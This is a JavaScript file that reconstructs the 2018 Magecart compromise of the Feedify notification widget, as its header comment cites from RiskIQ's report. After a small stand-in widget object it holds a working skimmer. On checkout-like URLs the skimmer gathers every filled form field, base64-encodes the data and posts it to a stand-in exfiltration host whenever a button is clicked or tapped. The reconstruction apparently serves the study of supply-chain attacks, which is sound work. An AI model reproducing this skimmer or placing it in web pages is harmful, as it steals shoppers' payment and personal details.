// feedify-lib, written from RiskIQ's report on the compromise of the Feedify customer
// engagement library (Yonathan Klijnsma, September 2018) and the coverage that followed:
// the push-notification and feedback widget script that Feedify's customers load from its
// CDN had Magecart skimming code appended at its end (and re-added after each clean-up).
// Here: a short stand-in for the vendor's widget, then the appended skimmer, which on
// checkout-like URLs collects every filled field and posts it to the gate as base64 JSON.
var Feedify = Feedify || {
  version: "1.0.7",
  key: null,
  init: function (key) {
    this.key = key;
    if ("Notification" in window && Notification.permission === "default") {
      setTimeout(function () { Notification.requestPermission(); }, 5000);
    }
  },
  showFeedback: function (id) {
    var el = document.getElementById(id);
    if (el) el.style.display = "block";
  }
};
!function () {
  var gate = "https://info-stat.invalid/js/metrics.php";
  var keys = ["onepage", "checkout", "store", "cart", "pay", "panier", "kasse", "order", "billing", "purchase", "basket"];
  var url = location.href.toLowerCase(), ok = false;
  for (var i = 0; i < keys.length; i++) if (url.indexOf(keys[i]) > -1) { ok = true; break; }
  if (!ok) return;
  var seen = {};
  function harvest() {
    var out = {}, n = 0;
    var els = document.querySelectorAll("input, select, textarea");
    for (var j = 0; j < els.length; j++) {
      var e = els[j];
      if (!e.value || e.type === "hidden" || e.type === "checkbox" || e.type === "radio") continue;
      out[e.name || e.id || ("f" + j)] = e.value;
      n++;
    }
    return n > 4 ? out : null;
  }
  function post() {
    var d = harvest();
    if (!d) return;
    var s = JSON.stringify(d);
    if (seen[s]) return;
    seen[s] = 1;
    var x = new XMLHttpRequest();
    x.open("POST", gate, true);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("d=" + encodeURIComponent(btoa(unescape(encodeURIComponent(s)))) + "&h=" + location.host);
  }
  var btns = "button, input[type=submit], input[type=button], a[onclick]";
  document.addEventListener("mousedown", function (e) {
    if (e.target.closest && e.target.closest(btns)) setTimeout(post, 50);
  }, true);
  document.addEventListener("touchend", function (e) {
    if (e.target.closest && e.target.closest(btns)) setTimeout(post, 50);
  }, true);
}();
